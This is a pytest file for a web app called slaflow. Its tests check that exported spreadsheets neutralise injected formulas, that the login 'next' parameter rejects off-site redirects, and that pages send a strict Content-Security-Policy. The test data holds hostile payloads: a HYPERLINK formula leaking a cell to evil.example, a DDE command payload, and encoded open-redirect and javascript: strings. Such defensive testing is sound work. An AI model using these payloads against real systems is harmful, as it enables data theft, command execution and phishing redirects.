"""Attacks through what slaflow writes out or redirects to: spreadsheet formulas in exports, the
``next=`` parameter after login, and the page policy that stops injected bases and forms."""
from __future__ import annotations

import io
from datetime import datetime, timezone

import pytest
from openpyxl import load_workbook

from engine.services import export, instances, publication
from engine.sheets import inert_field
from tests.conftest import ADMIN
from tests.published import SERVICE, publish_car_tax
from tests.web.conftest import csrf_token, login

FORMULA = '=HYPERLINK("http://evil.example/?leak="&A1,"เปิดเอกสาร")'
NOW = datetime(2026, 11, 2, 3, tzinfo=timezone.utc)


def _cells(sheet):
    return [cell for row in sheet.iter_rows(min_row=2) for cell in row if isinstance(cell.value, str)]


def test_a_formula_in_a_service_name_is_text_in_the_central_export(world):
    publish_car_tax(world, NOW)
    instances.start(world.ctx, ADMIN, "sla_lifecycle", world.agency_b, FORMULA, 2570)
    book = load_workbook(io.BytesIO(export.workbook(world.ctx, world.actor("central"), 2570)))
    cells = [c for c in _cells(book["สถานะ"]) if "HYPERLINK" in c.value]
    assert cells, "the service name is in the status sheet"
    for cell in cells:
        assert cell.data_type == "s" and cell.value == FORMULA  # shown as typed, never run


@pytest.mark.parametrize("payload", [FORMULA, "+cmd|' /C calc'!A0", "-2+3", "@SUM(1,1)", "\t=1+1", "\r=1+1"])
def test_a_citizens_complaint_cannot_plant_a_formula_for_the_agency(app, world, payload):
    publish_car_tax(world, NOW)
    citizen = app.test_client()
    url = f"/public/A/{publication.slug_of(SERVICE)}/complaint"
    r = citizen.post(url, data={"category": "delay", "subject": payload, "detail": "รอนานมาก"})
    assert r.status_code in (200, 302), r.get_data(as_text=True)[:300]
    officer = app.test_client()
    login(officer, "officer.a")
    sheet = load_workbook(io.BytesIO(officer.get("/complaints/export.xlsx").data))["เรื่องร้องเรียน"]
    subjects = [row[5] for row in sheet.iter_rows(min_row=2)]
    assert len(subjects) == 1
    assert subjects[0].data_type == "s" and subjects[0].value.strip() == payload.strip()


def test_tsv_fields_are_inert_and_stay_in_their_column():
    assert inert_field(FORMULA) == "'" + FORMULA
    assert inert_field("-1") == "'-1" and inert_field("@x") == "'@x" and inert_field("+1") == "'+1"
    assert inert_field("a\tb\nc\rd") == "a b c d"
    assert inert_field("การชำระภาษี") == "การชำระภาษี" and inert_field(None) == ""


@pytest.mark.parametrize("query", [
    "next=/%09/evil.example", "next=/%0a/x", "next=/%0d%0a/evil.example", "next=//evil.example",
    "next=/%5Cevil.example", "next=%2F%2Fevil.example", "next=https://evil.example/", "next=/%20/evil.example",
    "next=javascript:alert(1)", "next=/%7F/evil.example", "next=/" + "a" * 3000,
])
def test_login_never_sends_anyone_off_site(client, query):
    token = csrf_token(client)
    r = client.post("/login?" + query, data={"username": "officer.a", "password": "password-123",
                                             "csrf_token": token})
    assert r.status_code == 302  # never a 500
    assert r.headers["Location"] in ("/", "http://localhost/")


def test_login_still_goes_on_to_a_page_of_the_site(client):
    token = csrf_token(client)
    r = client.post("/login", query_string={"next": "/records/?month=2026-10"},
                    data={"username": "officer.a", "password": "password-123", "csrf_token": token})
    assert r.status_code == 302 and r.headers["Location"].endswith("/records/?month=2026-10")


@pytest.mark.parametrize("path", ["/login", "/public/"])
def test_pages_forbid_foreign_bases_forms_and_frames(client, path):
    csp = client.get(path).headers["Content-Security-Policy"]
    for rule in ("base-uri 'none'", "form-action 'self'", "frame-ancestors 'none'", "object-src 'none'"):
        assert rule in csp, (path, rule)
